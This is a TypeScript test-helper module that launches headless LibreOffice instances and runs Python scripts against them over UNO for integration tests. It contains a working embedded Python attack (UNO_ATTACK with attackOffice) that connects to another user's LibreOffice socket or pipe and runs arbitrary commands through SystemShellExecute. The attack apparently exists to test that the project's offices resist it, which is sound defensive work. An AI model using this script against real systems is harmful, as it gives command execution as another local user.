// A headless LibreOffice on its own profile and port (or pipe), and a way to run Python kit
// scripts against it from /usr/bin/python3 with python3-uno: the globals a LibreOffice runner
// gives scripts (uno, ctx, desktop, doc) are set up over the UNO socket instead of in-process.
// Also the UNO attack another local user would make on an office it can connect to, and a
// managed LibreOffice host (the runner, against an in-process bridge) for host-level tests.
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, mkdtempSync, realpathSync, rmSync } from "node:fs";
import { createConnection, createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { pathToFileURL } from "node:url";
import { findOnPath } from "../../adapters/find-executable.js";
import { findSoffice } from "../../adapters/libreoffice/find.js";
import { launchLibreOffice, libreOfficeAdapter } from "../../adapters/libreoffice/index.js";
import { pythonKit } from "../../adapters/python/index.js";
import { languageKits } from "../../adapters/registry.js";
import type { Unwrapped, WrapOptions } from "../../adapters/types.js";
import { type BridgeFixture, type RunResult, startBridge } from "./bridge-fixture.js";
import { commandLine, descendantsOf } from "./proc.js";
import { type ProcessResult, runProcess } from "./run-process.js";

/** The system Python that Debian's python3-uno installs `uno` for (not a pyenv one on PATH). */
export const UNO_PYTHON = "/usr/bin/python3";

export interface SofficeCheck {
  skip: boolean;
}

/** Like requireBinary: in CI a missing LibreOffice or python3-uno fails, elsewhere it skips. */
export function requireSofficeWithUno(): SofficeCheck {
  let missing = findOnPath("soffice") ? "" : "soffice";
  if (!missing) {
    try {
      execFileSync(UNO_PYTHON, ["-c", "import uno"], { stdio: "ignore" });
    } catch {
      missing = `python3-uno for ${UNO_PYTHON}`;
    }
  }
  if (!missing) return { skip: false };
  const hint = "apt-get install libreoffice-calc-nogui python3-uno";
  if (process.env.CI) throw new Error(`${missing} is required in CI (${hint})`);
  console.warn(`[skip] ${missing} is missing: LibreOffice integration tests are skipped (${hint})`);
  return { skip: true };
}

export interface Soffice {
  port: number;
  stop(): Promise<void>;
}

/** An office accepting on a UNO pipe, as a person would start one for `--connect pipe:NAME`. */
export interface PipeSoffice {
  pipe: string;
  stop(): Promise<void>;
}

async function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once("error", reject);
    server.listen(0, "127.0.0.1", () => {
      const address = server.address();
      server.close(() => resolve(typeof address === "object" && address ? address.port : 0));
    });
  });
}

function listening(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = createConnection({ port, host: "127.0.0.1" });
    socket.once("connect", () => {
      socket.destroy();
      resolve(true);
    });
    socket.once("error", () => resolve(false));
  });
}

/** soffice.bin's exit code asking to be started again (it does so once on a fresh profile). */
const RESTART_EXIT = 81;

/** Where LibreOffice puts this user's UNO pipe NAME (/tmp, writable on any machine that runs these tests). */
export function unoPipePath(name: string): string {
  return `/tmp/OSL_PIPE_${process.getuid!()}_${name}`;
}

/**
 * Starts soffice.bin itself (not the launcher script), so stopping it is one kill by pid, with
 * umask 022 (a pipe it creates is not writable by others); returns how to stop it once it
 * answers UNO calls at `unoUrl`.
 */
async function runOffice(
  accept: string,
  accepting: () => Promise<boolean>,
  unoUrl: string,
  timeoutMs: number,
): Promise<() => Promise<void>> {
  const launcher = realpathSync(findOnPath("soffice")!);
  const binary = join(dirname(launcher), "soffice.bin");
  const profile = mkdtempSync(join(tmpdir(), "sw-soffice-"));
  const args = [
    "--headless",
    "--invisible",
    "--norestore",
    "--nologo",
    "--nodefault",
    "--nolockcheck",
    `-env:UserInstallation=${pathToFileURL(profile).href}`,
    `--accept=${accept};urp;`,
  ];
  const launch = () =>
    spawn("/bin/sh", ["-c", 'umask 022 && exec "$0" "$@"', existsSync(binary) ? binary : launcher, ...args], {
      stdio: "ignore",
    });
  let child: ChildProcess = launch();
  const stop = async () => {
    if (child.exitCode === null && child.signalCode === null) {
      const exited = new Promise((resolve) => child.once("exit", resolve));
      child.kill("SIGKILL");
      await exited;
    }
    rmSync(profile, { recursive: true, force: true });
  };
  const deadline = Date.now() + timeoutMs;
  while (!(await accepting())) {
    // The launcher would restart it; starting soffice.bin directly, that is this loop's job.
    if (child.exitCode === RESTART_EXIT) child = launch();
    else if (child.exitCode !== null || Date.now() > deadline) {
      await stop();
      throw new Error(`soffice did not accept on ${accept} within ${timeoutMs} ms (exit ${child.exitCode})`);
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  // It can accept before the office answers UNO calls: wait until a Desktop can be made.
  while (!unoAnswers(unoUrl)) {
    if (child.exitCode !== null || Date.now() > deadline) {
      await stop();
      throw new Error(`soffice on ${accept} did not answer UNO within ${timeoutMs} ms`);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
  return stop;
}

/** A headless office on its own profile, accepting UNO on a TCP port of 127.0.0.1. */
export async function startSoffice(timeoutMs = 60_000): Promise<Soffice> {
  const port = await freePort();
  const accept = `socket,host=127.0.0.1,port=${port}`;
  const stop = await runOffice(
    accept,
    () => listening(port),
    `uno:${accept};urp;StarOffice.ComponentContext`,
    timeoutMs,
  );
  return { port, stop };
}

/** A headless office on its own profile, accepting UNO on a pipe with a random name. */
export async function startPipeSoffice(timeoutMs = 60_000): Promise<PipeSoffice> {
  const pipe = `sw_test_${randomBytes(8).toString("hex")}`;
  const accept = `pipe,name=${pipe}`;
  const path = unoPipePath(pipe);
  const stop = await runOffice(
    accept,
    async () => existsSync(path),
    `uno:${accept};urp;StarOffice.ComponentContext`,
    timeoutMs,
  );
  return {
    pipe,
    async stop() {
      await stop();
      rmSync(path, { force: true });
    },
  };
}

const UNO_PROBE = `
import sys, uno
local = uno.getComponentContext()
resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)
ctx = resolver.resolve(sys.argv[1])
ctx.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", ctx).getComponents()
`;

function unoAnswers(url: string): boolean {
  try {
    execFileSync(UNO_PYTHON, ["-c", UNO_PROBE, url], { stdio: "ignore", timeout: 30_000 });
    return true;
  } catch {
    return false;
  }
}

// Loads the kit's runtime, then runs the wrapped code with the runner's globals as builtins
// (so the runtime's fresh namespace sees them), in a hidden Calc document closed afterwards.
const HARNESS = `
import builtins, json, sys, uno
request = json.load(sys.stdin)
local = uno.getComponentContext()
resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)
ctx = resolver.resolve("uno:socket,host=127.0.0.1,port=%d;urp;StarOffice.ComponentContext" % request["port"])
desktop = ctx.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", ctx)
hidden = uno.createUnoStruct("com.sun.star.beans.PropertyValue")
hidden.Name, hidden.Value = "Hidden", True
doc = desktop.loadComponentFromURL("private:factory/scalc", "_blank", 0, (hidden,))
builtins.uno, builtins.ctx, builtins.desktop, builtins.doc = uno, ctx, desktop, doc
try:
    for code in (request["setup"], request["code"]):
        ns = {"__name__": "__scriptwright__"}
        exec(compile(code, "<scriptwright>", "exec"), ns)
    sys.stdout.write(ns.get("__scriptwright_output__") or "")
finally:
    doc.close(True)
`;

/** Runs a Python script as the Python kit wraps it, and unwraps the output like the bridge. */
export async function runUnoPython(port: number, code: string, wrap: WrapOptions = {}): Promise<Unwrapped> {
  const wrapped = pythonKit.wrap(code, wrap);
  const request = JSON.stringify({ port, setup: pythonKit.setup!.code, code: wrapped.code });
  const {
    code: status,
    signal,
    stdout,
    stderr,
  } = await runProcess(UNO_PYTHON, ["-c", HARNESS], {
    input: request,
  });
  if (status !== 0) throw new Error(`python-uno harness exited with ${status ?? signal}: ${stderr}`);
  return pythonKit.unwrap(stdout, wrapped);
}

// The attack another local user can make on an office it can connect to: open a UNO bridge
// and run a command through SystemShellExecute, as the office's user. Each target is first
// connected to raw (an unreachable one fails here, with its errno name); a reachable one is
// relayed through a loopback port of the attacker's, since pyuno's pipe URLs only name
// sockets of the caller's own uid.
const UNO_ATTACK = `
import errno, json, socket, sys, threading, uno
request = json.load(sys.stdin)
local = uno.getComponentContext()
resolver = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local)

def open_target(target):
    if target["protocol"] == "unix":
        path = target["address"]
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect("\\0" + path[1:] if path.startswith("@") else path)
        return sock
    host, _, port = target["address"].rpartition(":")
    return socket.create_connection((host.strip("[]"), int(port)), timeout=5)

def pump(source, sink):
    try:
        while True:
            data = source.recv(65536)
            if not data:
                break
            sink.sendall(data)
    except OSError:
        pass
    finally:
        for end in (source, sink):
            try:
                end.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

def relay(target):
    server = socket.create_server(("127.0.0.1", 0))
    def serve():
        client, _ = server.accept()
        upstream = open_target(target)
        upstream.settimeout(None)
        threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
        pump(upstream, client)
    threading.Thread(target=serve, daemon=True).start()
    return server.getsockname()[1]

def attack(target, outcome):
    try:
        open_target(target).close()
    except OSError as error:
        outcome["connect"] = errno.errorcode.get(error.errno, str(error))
        return
    outcome["connect"] = "ok"
    try:
        url = "uno:socket,host=127.0.0.1,port=%d;urp;StarOffice.ComponentContext" % relay(target)
        ctx = resolver.resolve(url)
        shell = ctx.ServiceManager.createInstanceWithContext("com.sun.star.system.SystemShellExecute", ctx)
        shell.execute(request["command"], request["argument"], 0)
        outcome["uno"] = "executed"
    except Exception as error:
        outcome["uno"] = "%s: %s" % (type(error).__name__, error)

outcomes = []
threads = []
for target in request["targets"]:
    outcome = {"address": target["address"], "connect": None, "uno": None}
    outcomes.append(outcome)
    thread = threading.Thread(target=attack, args=(target, outcome), daemon=True)
    thread.start()
    threads.append(thread)
for thread in threads:
    thread.join(request["timeoutS"])
print(json.dumps(outcomes), flush=True)
`;

export interface AttackTarget {
  protocol: string;
  /** "127.0.0.1:2002", "[::1]:2002", a unix socket's path or "@abstract". */
  address: string;
}

export interface AttackOutcome {
  address: string;
  /** "ok" when a connection was opened, else the errno name (EACCES, ECONNREFUSED, …). */
  connect: string | null;
  /** "executed" when SystemShellExecute took the command, else the error; null: not reached. */
  uno: string | null;
}

/**
 * Tries each target as an office to run `command argument` in; `runAs` runs the attacker's
 * Python (as another user, or as this one for a control). A target that never answers is
 * given up after `timeoutS`.
 */
export async function attackOffice(
  targets: readonly AttackTarget[],
  command: string,
  argument: string,
  runAs: (command: string, args: string[], options: { input: string }) => Promise<ProcessResult>,
  timeoutS = 20,
): Promise<AttackOutcome[]> {
  const input = JSON.stringify({ targets, command, argument, timeoutS });
  const result = await runAs(UNO_PYTHON, ["-c", UNO_ATTACK], { input });
  const last = result.stdout.trim().split("\n").pop() ?? "";
  try {
    return JSON.parse(last) as AttackOutcome[];
  } catch {
    throw new Error(`the attack script failed (${result.code ?? result.signal}): ${result.stderr}`);
  }
}

/** A real LibreOffice host: the runner the bridge would launch, connected to an in-process bridge. */
export interface LibreOfficeHost {
  fixture: BridgeFixture;
  hostId: string;
  runner: ChildProcess;
  run(code: string, language?: string): Promise<RunResult>;
  /** Runs and answers the value; any other outcome throws with the run's error. */
  ok(code: string, language?: string): Promise<unknown>;
  /** The runner's soffice.bin. */
  sofficePid(): number;
  /** A new document and no other one open, whatever earlier scripts left behind. */
  reset(): Promise<void>;
  /** Writes a spreadsheet whose A1 holds `text` (Python save_as: the format from the extension). */
  writeSpreadsheet(path: string, text: string): Promise<void>;
  /** A1 of a file's first sheet, read by opening the file again (hidden) and closing it. */
  readA1(path: string): Promise<unknown>;
  close(): Promise<void>;
}

const RESET = `
new_document()
others = []
components = desktop.getComponents().createEnumeration()
while components.hasMoreElements():
    component = components.nextElement()
    if component != doc:
        others.append(component)
for component in others:
    try:
        component.close(True)
    except Exception:  # one a script closed may still be listed, disposed
        pass
`;

export async function startLibreOfficeHost(name: string): Promise<LibreOfficeHost> {
  const fixture = await startBridge({
    kits: languageKits,
    adapters: new Map([["libreoffice", libreOfficeAdapter]]),
  });
  const launch = launchLibreOffice(findSoffice()!, {
    bridgeUrl: `${fixture.url.replace("http", "ws")}/ws/host`,
    token: fixture.token,
    name,
    instance: name,
  });
  const runner = spawn(launch.command, launch.args, {
    env: { ...process.env, ...launch.env },
    stdio: ["ignore", "ignore", "inherit"],
  });
  const deadline = Date.now() + 90_000;
  while (fixture.bridge.pool.all().length === 0) {
    if (runner.exitCode !== null || Date.now() > deadline) {
      runner.kill("SIGKILL");
      await fixture.close();
      throw new Error(`the LibreOffice runner did not connect (exit ${runner.exitCode})`);
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  const hostId = fixture.bridge.pool.all()[0]!.id;
  const q = (text: string) => JSON.stringify(text);
  const host: LibreOfficeHost = {
    fixture,
    hostId,
    runner,
    run: (code, language = "vba") => fixture.run({ host: hostId, code, language, timeoutMs: 60_000 }),
    async ok(code, language = "vba") {
      const result = await host.run(code, language);
      if (result.outcome !== "ok") throw new Error(`${result.outcome}: ${JSON.stringify(result.error)}`);
      return result.value;
    },
    sofficePid() {
      const pid = descendantsOf(runner.pid!).find((p) => commandLine(p).includes("soffice.bin"));
      if (!pid) throw new Error("the runner has no soffice.bin");
      return pid;
    },
    async reset() {
      await host.ok(RESET, "python");
    },
    async writeSpreadsheet(path, text) {
      await host.ok(
        `new_document()\ndoc.Sheets.getByIndex(0).getCellRangeByName("A1").setString(${q(text)})\nsave_as(${q(path)})`,
        "python",
      );
    },
    readA1: (path) =>
      host.ok(
        [
          'hidden = uno.createUnoStruct("com.sun.star.beans.PropertyValue")',
          'hidden.Name, hidden.Value = "Hidden", True',
          `d = desktop.loadComponentFromURL(uno.systemPathToFileUrl(${q(path)}), "_blank", 0, (hidden,))`,
          "try:",
          '    value = d.Sheets.getByIndex(0).getCellRangeByName("A1").getString()',
          "finally:",
          "    d.close(True)",
          "value",
        ].join("\n"),
        "python",
      ),
    async close() {
      runner.kill("SIGKILL");
      await fixture.close();
    },
  };
  return host;
}
